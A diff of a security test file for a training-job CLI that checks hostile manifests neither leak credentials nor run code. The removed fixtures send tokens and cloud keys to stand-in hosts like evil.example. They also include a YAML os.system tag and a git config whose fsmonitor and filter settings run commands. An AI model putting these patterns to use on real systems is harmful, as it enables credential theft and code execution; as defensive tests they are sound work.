@@ -15,11 +15,10 @@ from pathlib import Path
 
 import pytest
 
-from tests.support.machines.sshd import make_key
+from tests.support.cases import cases
 from tests.support.network import netns
 from tests.support.projects.project import ProjectHarness, project
 from tests.support.servers.certificate_authority import authority, issue_certificate
-from tests.support.tiers import sample
 
 ROOT = Path(__file__).parents[2]
 NAMES = (
@@ -109,15 +108,8 @@ def network(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, Pat
     heard = tmp_path_factory.mktemp("heard") / "heard.jsonl"
     certificate, key = issue_certificate(*NAMES)
     with netns.sink_namespace() as name:
-        argv = [
-            "ip",
-            "netns",
-            "exec",
-            name,
-            sys.executable,
-            "-m",
-            "tests.support.network.traffic_recorder",
-        ]
+        inside = ["ip", "netns", "exec", name]
+        argv = [*inside, sys.executable, "-m", "tests.support.network.traffic_recorder"]
         with subprocess.Popen(
             [*argv, str(heard), str(certificate), str(key)],
             cwd=ROOT, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True,
@@ -150,7 +142,7 @@ def runner(tmp_path: Path, network: tuple[str, Path]) -> Iterator[Runner]:
         }  # fmt: skip
         ran = work.directory / "ran"
         script = f"#!/bin/sh\ntouch {ran}\necho {'x' * 20}\n"
-        for name in ("evil/bin/python", "evil/bin/python3", "give", "pass"):
+        for name in ("evil/bin/python", "evil/bin/python3", "give"):
             work.write({name: script})
             (work.directory / name).chmod(0o755)
         work.write(
@@ -162,104 +154,11 @@ def runner(tmp_path: Path, network: tuple[str, Path]) -> Iterator[Runner]:
         yield Runner(work, heard)
 
 
-_JOB = "jobs: {j: {weights: [m], runtime: {start_commands: [ls]}}}\n"
-
-
-def _source(secret: str, where: str = "https://evil.example/m.bin", more: str = "") -> str:
-    return (
-        f"secrets: {{s: {{{secret}}}}}\n"
-        f"weights: {{m: {{source: '{where}', auth: {{auth_secret_name: s{more}}}}}}}\n{_JOB}"
-    )
-
-
-_ENDPOINT = ", endpoint_url: 'https://s3.evil.example'"
-_SSH = "clusters: {lab: {provider: ssh, hosts: [{address: evil.example, host_key: HOST_KEY}]}}\n"
-_REGISTRY = """\
-secrets: {s: {from: env, name: GITHUB_TOKEN}}
-jobs:
-  j:
-    image:
-      base_image: registry.evil.example/a/b
-      docker_auth: {auth_method: METHOD}
-    runtime: {start_commands: [ls]}
-"""
-FORBIDDEN = {
-    "a new host": _source("from: env, name: HF_TOKEN"),
-    "a new host at a usual port": _source("from: env, name: GITHUB_TOKEN", "https://evil.example:8443/m.bin"),
-    "an address": _source("from: env, name: GITHUB_TOKEN", "https://203.0.113.7/m.bin"),
-    "a host like the Hub": _source("from: env, name: HF_TOKEN", "https://huggingface.co.evil.example/m.bin"),
-    "a file by its path": _source("from: file, path: ../home/outside.txt", "hf://a/b"),
-    "a file by a whole path": _source("from: file, path: ~/outside.txt", "hf://a/b"),
-    "a file by a link": _source("from: file, path: link", "hf://a/b"),
-    "a command": _source("from: command, command: [touch, ran]", "hf://a/b"),
-    "a command of its own": _source("from: command, command: [./give]", "hf://a/b"),
-    "a keyring": _source("from: keyring, name: x"),
-    "AWS's secrets": _source("from: aws-secrets-manager, name: prod, region: us-west-2"),
-    "an endpoint for S3": _source("from: env, name: AWS_SECRET_ACCESS_KEY", "s3://models/b", _ENDPOINT),
-    "an endpoint for GCS": _source("from: env, name: GOOGLE_SERVICE_ACCOUNT_KEY", "gs://models/b", _ENDPOINT),
-    "an endpoint for Azure": _source("from: env, name: AZURE_STORAGE_KEY", "azure://account/models/b", _ENDPOINT),
-    "an endpoint for R2": _source("from: env, name: AWS_SECRET_ACCESS_KEY", "r2://a.bucket/b", _ENDPOINT),
-    "a role's session": (
-        "weights: {m: {source: 's3://models/b', auth: {auth_method: AWS_ASSUME_ROLE, "
-        f"aws_assume_role_arn: 'arn:aws:iam::123456789012:role/r', aws_assume_role_region: us-east-1{_ENDPOINT}}}}}}}\n{_JOB}"
-    ),
-    "a registry": _REGISTRY.replace(
-        "METHOD",
-        "REGISTRY_SECRET, registry: registry.evil.example, registry_secret_docker_auth: {secret_ref: {secret: s}}",
-    ),
-    "a registry by Google's key": _REGISTRY.replace(
-        "METHOD",
-        "GCP_SERVICE_ACCOUNT_JSON, registry: gcr.io.evil.example, gcp_service_account_json_docker_auth: {service_account_json_secret_ref: {secret: s}}",
-    ),
-    "checkpoints": f"secrets: {{s: {{from: env, name: AWS_SECRET_ACCESS_KEY}}}}\ncheckpoints: {{url: s3://models/b{_ENDPOINT}, auth: {{auth_secret_name: s}}}}\n",
-    "checkpoints by the runner's own": f"checkpoints: {{url: s3://models/b{_ENDPOINT}}}\n",
-    "an endpoint and the runner's own key": f"weights: {{m: {{source: 's3://models/b'{_ENDPOINT}}}}}\n{_JOB}",
-    "an endpoint for R2 and the runner's own key": f"weights: {{m: {{source: 'r2://a.bucket/b'{_ENDPOINT}}}}}\n{_JOB}",
-    "an endpoint for GCS and the runner's own login": f"weights: {{m: {{source: 'gs://models/b'{_ENDPOINT}}}}}\n{_JOB}",
-    "an endpoint for Azure and the runner's own key": f"weights: {{m: {{source: 'azure://account/models/b'{_ENDPOINT}}}}}\n{_JOB}",
-    "a mirror and the runner's own key": f"mirror: {{url: s3://models/b{_ENDPOINT}}}\nweights: {{m: 'file:./train.py'}}\n{_JOB}",
-}  # fmt: skip
-"""What is refused for lack of trust."""
-
-HARMLESS = {
-    "nobody's file": f"weights: {{m: 'https://evil.example/m.bin'}}\n{_JOB}",
-    "a mirror": f"mirror: {{url: s3://models/b{_ENDPOINT}}}\nweights: {{m: 'https://evil.example/m.bin'}}\n{_JOB}",
-    "a state": f"state: {{url: s3://models/b{_ENDPOINT}}}\n",
-    "a mirror and a state by a secret": (
-        "secrets: {s: {from: env, name: AWS_SECRET_ACCESS_KEY}}\n"
-        f"mirror: {{url: s3://models/b{_ENDPOINT}, auth: {{auth_secret_name: s}}}}\nstate: {{url: s3://models/c{_ENDPOINT}, auth: {{auth_secret_name: s}}}}\n"
-    ),
-    "a host of its own": _SSH
-    + "secrets: {s: {from: env, name: AWS_SECRET_ACCESS_KEY}}\njobs: {j: {runtime: {start_commands: [ls], environment_variables: {A: {secret: s}}}}}\n",
-    "a mirror on its host": f"{_SSH}mirror: {{url: node://lab/x}}\nweights: {{m: 'hf://a/b'}}\n{_JOB}",
-    "an image": "jobs: {j: {image: {base_image: registry.evil.example/a/b}, runtime: {start_commands: [ls]}}}\n",
-    "commands": "jobs: {j: {runtime: {start_commands: [touch ran], cache_config: {enabled: true, prepare_commands: [touch ran]}}}}\n",
-    "requirements": "jobs: {j: {runtime: {requirements: requirements.txt, start_commands: [python train.py]}}}\n",
-    "an interpreter": "jobs: {j: {runtime: {venv: 'DIRECTORY/evil', start_commands: [python3 train.py]}}}\n",
-    "code in a bare repository": "jobs: {j: {code: bare, runtime: {start_commands: [ls]}}}\n",
-    "variables": f"vars: {{x: $HF_TOKEN}}\nweights: {{m: 'https://evil.example/${{{{ var.x }}}}/m.bin'}}\n{_JOB}",
-    "expressions": f"secrets: {{s: {{from: env, name: HF_TOKEN}}}}\nweights: {{m: 'https://evil.example/${{{{ secrets.s }}}}/${{{{ env.HF_TOKEN }}}}.bin'}}\n{_JOB}",
-    "a tag": "jobs: !!python/object/apply:os.system [touch ran]\n",
-}  # fmt: skip
-"""What may be planned or not; nothing leaves in any case."""
-
-
-def write(runner: Runner, text: str) -> None:
+def write(runner: Runner, manifest: str) -> None:
     work = runner.work
-    key = make_key(work.directory.parent / "host-key") if "HOST_KEY" in text else ""
-    text = text.replace("HOST_KEY", f"'{key}'").replace("DIRECTORY", str(work.directory))
-    work.write({"trainctl.yaml": text})
-    if "path: link" in text:
+    work.write({"trainctl.yaml": manifest.replace("DIRECTORY", str(work.directory))})
+    if "path: link" in manifest:
         (work.directory / "link").symlink_to(work.directory.parent / "home" / "outside.txt")
-    if "code: bare" in text:
-        bare, ran = work.directory / "bare", work.directory / "ran"
-        subprocess.run(["git", "init", "-q", "--bare", str(bare)], check=True)
-        with (bare / "config").open("a") as file:
-            file.write(
-                f"[core]\n\tbare = false\n\tworktree = {bare}\n\tfsmonitor = touch {ran}; false\n"
-            )
-            file.write(f'[filter "x"]\n\tclean = touch {ran}; cat\n')
-        work.write({"bare/.gitattributes": "* filter=x\n", "bare/train.py": "1\n"})
 
 
 def unharmed(runner: Runner) -> None:
@@ -269,62 +168,44 @@ def unharmed(runner: Runner) -> None:
     assert not (runner.work.directory / "ran").exists()
 
 
-@pytest.mark.parametrize("name", sample([*FORBIDDEN], fixed=7, rotating=3))
-def test_what_only_trust_could_allow_is_refused(runner: Runner, name: str) -> None:
-    """plan ends with 13, says why, shows no credential, and nobody on the network has heard one; nothing was run."""
-    write(runner, FORBIDDEN[name])
+@pytest.mark.parametrize("manifest", cases("hostile_manifest/refused"))
+def test_only_trust_allows_it(runner: Runner, manifest: str) -> None:
+    """A plan ends with 13, shows no credential, sends none, and runs nothing."""
+    write(runner, manifest)
     done = runner.work.run("plan", code=13)
     assert "error" in done.stderr
     assert "canary" not in done.stdout + done.stderr
     unharmed(runner)
 
 
-@pytest.mark.parametrize(
-    ("variable", "source", "platform"),
-    [
-        ("AZURE_STORAGE_ENDPOINT", "azure://account/models/b", "https://account.blob.core.windows.net"),
-        ("AWS_ENDPOINT_URL", "s3://models/b", "https://s3.us-east-1.amazonaws.com"),
-        ("AWS_ENDPOINT_URL_S3", "r2://a.bucket/b", "https://a.r2.cloudflarestorage.com"),
-    ],
-)  # fmt: skip
-def test_what_opens_the_runners_own_server_goes_to_no_platform(
-    runner: Runner, variable: str, source: str, platform: str
-) -> None:
-    """Where the environment names a server, its credential is that server's: a manifest sends it to nobody's account elsewhere."""
-    runner.work.variables[variable] = "https://storage.own.example"
-    write(runner, f"weights: {{m: {{source: '{source}', endpoint_url: '{platform}'}}}}\n{_JOB}")
-
-    told = runner.work.run("plan", code=13).stderr
-
-    assert "only the manifest names this host" in told
+def test_credentials_of_a_server_of_the_environment_go_to_no_platform(runner: Runner) -> None:
+    """If the environment names a server, its credential is for that server alone."""
+    runner.work.variables["AWS_ENDPOINT_URL"] = "https://storage.own.example"
+    platform = "https://s3.us-east-1.amazonaws.com"
+    write(
+        runner,
+        f"weights: {{m: {{source: 's3://models/b', endpoint_url: '{platform}'}}}}\n"
+        "jobs: {j: {weights: [m], runtime: {start_commands: [ls]}}}\n",
+    )
+    assert "only the manifest names this host" in runner.work.run("plan", code=13).stderr
     assert runner.leaks() == []
 
 
-@pytest.mark.parametrize("name", sample([*HARMLESS], fixed=2, rotating=2))
-def test_whatever_is_planned_gives_nothing_away(runner: Runner, name: str) -> None:
-    """Whether there is a plan or not, with a look at machines and without."""
-    write(runner, HARMLESS[name])
-    for flags in ((), ("--refresh=false",)):
-        done = runner.work.run("plan", *flags, code=None)
-        assert done.returncode in (0, 1, 13, 64)
-        assert "canary" not in done.stdout + done.stderr
-    unharmed(runner)
-
-
-def test_checking_secrets_gives_nothing_away(runner: Runner) -> None:
-    """secrets check of a hostile manifest runs and sends nothing either."""
-    write(runner, FORBIDDEN["a command of its own"])
-    runner.work.run("secrets", "check", code=13)
-    write(runner, FORBIDDEN["a new host"])
-    done = runner.work.run("secrets", "check", code=13)
+@pytest.mark.parametrize("manifest", cases("hostile_manifest/planned"))
+def test_a_plan_gives_nothing_away(runner: Runner, manifest: str) -> None:
+    """Whether there is a plan or not."""
+    write(runner, manifest)
+    done = runner.work.run("plan", code=None)
+    assert done.returncode in (0, 1, 13, 64)
     assert "canary" not in done.stdout + done.stderr
-    assert runner.lines() == []
     unharmed(runner)
 
 
-def test_the_recorder_would_hear_it(runner: Runner) -> None:
-    """With the user's word for it the token goes to that host, and the recorder hears it: silence above means something."""
-    write(runner, FORBIDDEN["a new host"])
+def test_the_recorder_hears_a_trusted_token(runner: Runner) -> None:
+    """So that silence in the other tests means something; checking secrets sends nothing in any case."""
+    write(runner, cases("hostile_manifest/refused")[0].values[0])
+    runner.work.run("secrets", "check", code=13)
+    assert runner.lines() == []
     runner.work.trust('secret = "s"\nhosts = ["evil.example"]')
     runner.work.run("plan", code=1)
     assert (canary("HF_TOKEN"), "evil.example") in runner.leaks()
